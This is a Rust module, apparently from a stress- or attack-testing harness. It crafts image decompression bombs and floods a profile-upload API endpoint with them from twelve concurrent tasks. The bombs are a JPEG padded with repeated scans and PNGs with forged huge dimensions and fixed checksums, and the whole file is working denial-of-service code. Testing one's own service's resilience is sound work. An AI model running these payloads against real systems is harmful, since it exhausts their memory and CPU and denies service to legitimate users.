//! Pictures of one user that take long, or much memory, to decode.

use std::io::Cursor;
use std::sync::Arc;
use std::time::Duration;

use image::{ImageBuffer, ImageFormat, Luma};
use tokio::time::{Instant, sleep};

use super::together;
use crate::client::Figures;
use crate::target::{Target, ask_once};

/// How many of them come at once.
const AT_ONCE: usize = 12;

/// How long each rests between two.
const REST: Duration = Duration::from_millis(200);

/// 12 megapixels, progressive, see `image_memory`.
const PROGRESSIVE: &[u8] = include_bytes!("../../image_memory/progressive.jpg");

/// Where a scan of a JPEG begins.
const SCAN: &[u8] = b"\xFF\xDA";

pub(super) async fn flood(target: Arc<Target>) -> Figures {
    let bombs = [scanned(640, 480), scanned(4_000, 3_000), vast(), narrow(), PROGRESSIVE.to_vec()];
    let user = &target.users[0];
    let upload =
        |bomb: &Vec<u8>| super::uploads::upload(&user.access, "/api/v1/profile-upload/", "image", bomb);
    let requests: Arc<Vec<_>> = Arc::new(bombs.iter().map(upload).collect());
    let attacks = (0..AT_ONCE).map(|number| {
        let (target, requests) = (Arc::clone(&target), Arc::clone(&requests));
        async move {
            let mut figures = Figures::default();
            for request in requests.iter().cycle().skip(number) {
                if !target.is_attacked() {
                    break;
                }
                let begun = Instant::now();
                let status = ask_once(target.api_from(50), request, target.until).await;
                figures.add_answer((status, begun.elapsed()));
                sleep(REST).await;
            }
            figures
        }
    });
    together(attacks).await
}

/// A JPEG of these dimensions that draws its picture 64 times.
fn scanned(width: u16, height: u16) -> Vec<u8> {
    let mut image = PROGRESSIVE.to_vec();
    let frame = image.windows(2).position(|bytes| bytes == b"\xFF\xC2").expect("a frame") + 5;
    image[frame..frame + 4].copy_from_slice(&[height.to_be_bytes(), width.to_be_bytes()].concat());
    let scans: Vec<_> = (0..image.len()).filter(|at| image[*at..].starts_with(SCAN)).collect();
    let first = image[scans[0]..scans[1]].repeat(64 - scans.len());
    [&image[..scans[0]], &first, &image[scans[0]..]].concat()
}

/// A PNG that says that it has 2.5 gigapixels.
fn vast() -> Vec<u8> {
    let mut image = encoded(1, 1);
    image[16..24].copy_from_slice(&[50_000_u32.to_be_bytes(), 50_000_u32.to_be_bytes()].concat());
    let checksum = checksum(&image[12..29]).to_be_bytes();
    image[29..33].copy_from_slice(&checksum);
    image
}

/// A PNG whose rows are as long as few are.
fn narrow() -> Vec<u8> {
    encoded(1_500_000, 6)
}

fn encoded(width: u32, height: u32) -> Vec<u8> {
    let mut png = Cursor::new(Vec::new());
    ImageBuffer::<Luma<u16>, _>::new(width, height).write_to(&mut png, ImageFormat::Png).unwrap();
    png.into_inner()
}

/// PNG's checksum.
fn checksum(bytes: &[u8]) -> u32 {
    !bytes.iter().fold(u32::MAX, |sum, byte| {
        (0..8).fold(sum ^ u32::from(*byte), |sum, _| (sum >> 1) ^ (0xEDB8_8320 & (sum & 1).wrapping_neg()))
    })
}
